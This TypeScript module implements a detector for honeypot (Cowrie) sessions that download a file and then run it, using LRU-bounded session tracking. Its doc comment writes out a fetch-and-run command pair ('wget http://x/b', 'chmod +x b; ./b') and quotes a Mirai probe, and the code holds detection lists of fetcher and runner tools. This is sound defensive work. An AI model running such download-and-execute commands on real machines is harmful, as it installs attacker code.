/**
 * A malware drop as a session shows it: something fetched (a file download or upload Cowrie
 * logged, or a wget/curl/tftp/ftpget command with a URL or address), then run (chmod, a shell,
 * or a path executed) in the same session. Mirai's probe "tftp; wget; /bin/busybox XRCUK" asks
 * which tools exist and fetches nothing. Cowrie logs `session.file_download.failed` when its fetch fails, which is
 * still the attacker's intent, so it counts.
 *
 * Sessions live in a bounded LRU table: most of a scan storm's sessions never close.
 *
 * ```ts
 * const drops = new DownloadThenRun();
 * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://x/b" }), false);
 * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" }), true);
 * ```
 */
import type { CanonicalEvent } from "../domain/canonical-event";
import { LruMap } from "../collections/lru-map";

const FETCHERS = new Set(["wget", "curl", "tftp", "ftpget", "scp"]);
const RUNNERS = new Set(["chmod", "sh", "bash", "ash", "dash", "perl", "python", "python3", "nohup"]);

/** Where a program name means "run a fetched file": a relative or temporary path. */
const EXECUTED_PATH = /^(\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/;
/** What a fetch fetches from: a URL or an address. A bare "wget" is Mirai asking whether the tool exists. */
const SOURCE = /:\/\/|^\d{1,3}(\.\d{1,3}){3}\b/;

interface CommandPart {
  program: string;
  args: string[];
}

/** The parts of a command line, each as its program (busybox's applet for "busybox X") and arguments. */
function partsOf(commandLine: string, maxParts = 16): CommandPart[] {
  // Only the head of a pasted megabyte is looked at: a few parts are enough to say what it runs.
  const head = commandLine.length > 4096 ? commandLine.slice(0, 4096) : commandLine;
  const parts: CommandPart[] = [];
  for (const text of head.split(/[;|&\n]+/)) {
    const words = text.trim().split(/\s+/).filter(Boolean);
    const name = (word: string) => (EXECUTED_PATH.test(word) ? word : word.slice(word.lastIndexOf("/") + 1));
    if (words.length > 1 && name(words[0]) === "busybox") words.shift();
    if (words.length === 0) continue;
    parts.push({ program: name(words[0]), args: words.slice(1) });
    if (parts.length === maxParts) break;
  }
  return parts;
}

const fetches = ({ program, args }: CommandPart) => FETCHERS.has(program) && args.some((arg) => SOURCE.test(arg));
const runs = ({ program }: CommandPart) => RUNNERS.has(program) || EXECUTED_PATH.test(program);

export class DownloadThenRun {
  /** Sessions that fetched something and have not run it yet (true) or already did (false). */
  private readonly fetched: LruMap<string, boolean>;

  constructor(maxSessions = 50_000) {
    this.fetched = new LruMap(maxSessions);
  }

  /** True on the event that runs what its session fetched before (once per session). */
  observe(event: Partial<CanonicalEvent>): boolean {
    const session = event.session;
    if (typeof session !== "string" || session === "") return false;
    const eventid = event.eventid ?? "";
    if (eventid.startsWith("cowrie.session.file_download") || eventid === "cowrie.session.file_upload") {
      if (!this.fetched.has(session)) this.fetched.set(session, true);
      return false;
    }
    if (eventid !== "cowrie.command.input" || typeof event.input !== "string") return false;
    const parts = partsOf(event.input);
    const pending = this.fetched.get(session);
    if (pending === true && parts.some(runs)) {
      this.fetched.set(session, false);
      return true;
    }
    // A fetch and its run on one command line ("wget ...; chmod +x b; ./b") count at once.
    const fetchAt = parts.findIndex(fetches);
    if (pending === undefined && fetchAt >= 0) {
      const runsAfter = parts.slice(fetchAt + 1).some(runs);
      this.fetched.set(session, !runsAfter);
      return runsAfter;
    }
    return false;
  }
}
